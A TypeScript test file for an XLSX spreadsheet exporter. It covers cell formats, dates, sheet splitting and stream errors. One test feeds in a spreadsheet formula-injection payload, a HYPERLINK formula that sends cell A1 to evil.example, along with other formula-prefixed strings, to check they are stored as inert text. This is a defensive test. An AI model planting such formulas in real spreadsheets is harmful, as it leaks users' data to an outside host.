import { readXlsx } from 'hucre/xlsx'
import { buffer } from 'node:stream/consumers'
import { describe, expect, test } from 'vitest'
import type { CellKind, Columns, Rows } from './columns.ts'
import { xlsxChunks } from './formats.ts'

type Row = readonly unknown[]
const columnsOf = (...kinds: CellKind[]): Columns<Row> =>
  kinds.map((kind, index) => ({ header: `${kind} ${index}`, kind, value: (row) => row[index] }))

async function writeAndRead(columns: Columns<Row>, rows: Rows<Row>) {
  const bytes = await buffer(xlsxChunks(columns, rows, 'newOrder-2026-11-21'))
  return readXlsx(new Uint8Array(bytes), { readStyles: true })
}

async function cellOf(kind: CellKind, value: unknown) {
  const { sheets } = await writeAndRead(columnsOf('text', kind), [['first', value]])
  const cell = sheets[0]?.cells?.get('1,1')
  return cell && [cell.type, cell.value, cell.style?.numFmt]
}

const utc = (text: string) => new Date(`${text}Z`)

describe('a cell', () => {
  test.each([
    ['text', '000812345678901234567', 'string', '000812345678901234567', '@'],
    ['text', 8_800_001, 'string', '8800001', '@'],
    ['amount', '1234.50', 'number', 1234.5, '#,##0.00'],
    ['amount', '12345678901234567.89', 'string', '12345678901234567.89', '@'],
    ['amount', 'about 5', 'string', 'about 5', '@'],
    ['day', '2026-11-20', 'date', utc('2026-11-20T00:00:00'), 'dd\\-mm\\-yyyy'],
    ['day', '1899-11-20', 'string', '1899-11-20', '@'],
    ['day', 'next week', 'string', 'next week', '@'],
    ['localTime', '2026-11-20 18:30:01', 'date', utc('2026-11-20T18:30:01'), 'dd\\-mm\\-yyyy hh:mm:ss'],
    ['instant', '2026-11-21T03:00:07Z', 'date', utc('2026-11-20T22:00:07'), 'dd\\-mm\\-yyyy hh:mm:ss" EST"'],
  ] as const)('of the kind %s with %j is a %s', async (kind, value, type, read, format) => {
    expect(await cellOf(kind, value)).toEqual([type, read, format])
  })

  test('without a value is omitted', async () => {
    expect(await cellOf('text', null)).toBeUndefined()
    expect(await cellOf('amount', undefined)).toBeUndefined()
  })

  test.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+62',
    '@SUM(A1)',
    "'quoted",
    '<b>&amp;</b> ]]> "',
    '_x000D_ _x005F_ __x0041_',
    ' outer blanks ',
    'two\nlines\tand\r\nthree',
    'Nguyễn 王晓明 محمد 🛂',
  ])('with the text %j holds that text and no formula', async (text) => {
    expect(await cellOf('text', text)).toEqual(['string', text, '@'])
  })

  test('marks characters that XML lacks, and is cut at the limit of Excel', async () => {
    expect(await cellOf('text', 'a\u0000b\u001Fc\uD83Dd\uFFFFe')).toEqual([
      'string',
      'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe',
      '@',
    ])
    expect(await cellOf('text', 'ab'.repeat(20_000))).toEqual([
      'string',
      'ab'.repeat(20_000).slice(0, 32_767),
      '@',
    ])
  })
})

test('the header row is frozen, and stands alone without rows', async () => {
  const { sheets } = await writeAndRead(columnsOf('text', 'day'), [])
  expect(sheets).toHaveLength(1)
  expect(sheets[0]).toMatchObject({
    name: 'newOrder-2026-11-21',
    rows: [['text 0', 'day 1']],
    freezePane: { rows: 1 },
  })
})

test('rows beyond the limit of a sheet are on the next one', async () => {
  const rows = (count: number) => Array.from({ length: count }, (_, index) => [null, index])
  const sheetsOf = async (count: number) => {
    const bytes = await buffer(xlsxChunks(columnsOf('text', 'number'), rows(count), 'list', 1001))
    const { sheets } = await readXlsx(new Uint8Array(bytes))
    return sheets.map((sheet) => [
      sheet.name,
      sheet.rows.length,
      sheet.rows.at(0)?.[1],
      sheet.rows.at(-1)?.[1],
    ])
  }
  expect(await sheetsOf(1000)).toEqual([['list', 1001, 'number 1', 999]])
  expect(await sheetsOf(2001)).toEqual([
    ['list', 1001, 'number 1', 999],
    ['list 2', 1001, 'number 1', 1999],
    ['list 3', 2, 'number 1', 2000],
  ])
})

test('a failure of the rows interrupts the file, and an abandoned file ends its rows', async () => {
  let isEnded = false
  const rows = (fails: boolean) =>
    (async function* () {
      try {
        for (let number = 0; number < 50_000; number += 1) {
          if (fails && number === 40_000) throw new Error('the database has gone')
          yield await Promise.resolve([`row ${number}`.repeat(10)])
        }
      } finally {
        isEnded = true
      }
    })()
  await expect(buffer(xlsxChunks(columnsOf('text'), rows(true), 'x'))).rejects.toThrow(
    'the database has gone',
  )
  expect(isEnded).toBe(true)

  isEnded = false
  for await (const _chunk of xlsxChunks(columnsOf('text'), rows(false), 'x')) break
  expect(isEnded).toBe(true)
})
